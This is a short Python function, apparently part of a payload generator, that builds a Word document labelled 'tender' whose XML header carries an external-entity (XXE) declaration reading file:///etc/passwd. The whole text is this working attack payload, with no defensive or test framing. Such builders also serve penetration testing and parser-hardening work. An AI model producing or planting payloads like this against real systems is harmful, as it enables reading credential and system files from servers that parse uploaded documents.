def make(p):
    p.template("tender", "word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
               '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
